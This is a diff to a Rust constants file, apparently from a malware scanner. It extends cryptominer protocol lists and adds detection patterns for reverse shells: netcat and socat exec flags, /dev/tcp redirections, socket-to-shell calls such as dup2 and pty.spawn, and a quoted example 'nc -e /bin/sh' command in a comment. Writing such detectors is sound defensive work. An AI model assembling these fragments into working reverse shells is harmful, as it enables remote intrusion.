@@ -339,8 +339,11 @@ pub const PREFILTER_MINING: &[&str] = &[
     "cryptonight",
     "deepminer",
     "donate-level",
+    "eth_getwork",
+    "eth_submitwork",
     "ethermine",
     "f2pool",
+    "getblocktemplate",
     "hashvault",
     "herominers",
     "job_id\\\"",
@@ -1668,6 +1671,34 @@ pub const SHELL_NETWORK_PRIMITIVES: &[&str] = &[
     "new-object net.webclient",
 ];
 
+/// Programs that open a network connection from a command line and can join it to another
+/// program's input and output: netcat and its kin, `socat`, `telnet`.
+pub const SHELL_CONNECTORS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet"];
+
+/// Flags with which netcat runs a program for each connection (`nc -e /bin/sh 192.0.2.1 4444`,
+/// `ncat --sh-exec`).
+pub const CONNECTOR_EXEC_FLAGS: &[&str] = &["--exec", "--lua-exec", "--sh-exec", "-c", "-e"];
+
+/// `socat` address types that run a program on the other end of its connection.
+pub const SOCAT_PROGRAM_ADDRESSES: &[&str] = &["exec:", "system:"];
+
+/// Redirections that make an open connection a program's standard input: `0>&1` after `>&
+/// /dev/tcp/…`, `0<&196` and `<&196` of a descriptor opened on one.
+pub const STDIN_FROM_DESCRIPTOR: &[&str] = &["0<&", "0>&1"];
+
+/// Script calls that hand a socket to a shell: `os.dup2(s.fileno(), 0)`, `pty.spawn("/bin/sh")`,
+/// Perl's `open(STDIN, ">&S")`. Matched, lower-cased, with a socket and a shell in the same line.
+pub const SOCKET_TO_SHELL_CALLS: &[&str] = &["dup2(", "open(stdin", "pty.spawn("];
+
+/// What opens a connection in a script one-liner (Python, Perl, PHP, Ruby, PowerShell).
+pub const SCRIPT_SOCKETS: &[&str] = &[
+    "fsockopen(",
+    "io::socket::inet",
+    "net.sockets.tcpclient",
+    "socket(",
+    "tcpsocket",
+];
+
 /// Piping what came before into PowerShell's `Invoke-Expression`: running a downloaded script.
 /// Matched as substrings; pipes into a shell by any name or path are found by
 /// `text::pipes_into_shell`.
@@ -2034,9 +2065,20 @@ pub const MINING_ALGORITHMS: &[&str] = &[
     "rx/wow",
 ];
 
-/// Methods of the stratum protocols miners speak to pools, lower-cased (not Ethereum's
-/// `eth_submitWork`, which every Ethereum RPC client names).
-pub const STRATUM_METHODS: &[&str] = &["mining.authorize", "mining.submit", "mining.subscribe"];
+/// Methods of the protocols miners fetch work and submit it by, lower-cased: stratum's, and the
+/// getwork and `getblocktemplate` calls of Ethereum and Bitcoin nodes. Every Ethereum or Bitcoin
+/// RPC client names the latter too; they make a miner only with a pool of the code's own choosing
+/// (`scan::score`), which a client that talks to its caller's node has not (`web3`,
+/// `bitcoincore-rpc`, `ethers-providers` are allowed).
+pub const STRATUM_METHODS: &[&str] = &[
+    "eth_getwork",
+    "eth_submithashrate",
+    "eth_submitwork",
+    "getblocktemplate",
+    "mining.authorize",
+    "mining.submit",
+    "mining.subscribe",
+];
 
 /// Command-line flags (and the name) of XMRig and its kin.
 pub const MINER_FLAGS: &[&str] = &[
@@ -2666,6 +2708,12 @@ mod tests {
             SHELL_ENCODED_FLAGS: Lower,
             DOWNLOADER_OUTPUT_FLAGS: Lower,
             SHELL_NETWORK_PRIMITIVES: Lower,
+            SHELL_CONNECTORS: Lower,
+            CONNECTOR_EXEC_FLAGS: Lower,
+            SOCAT_PROGRAM_ADDRESSES: Lower,
+            STDIN_FROM_DESCRIPTOR: Lower,
+            SOCKET_TO_SHELL_CALLS: Lower,
+            SCRIPT_SOCKETS: Lower,
             PIPES_TO_SHELL: Lower,
             CHMOD_EXECUTABLE: Lower,
             RUN_BY_PATH_PREFIXES: Lower,
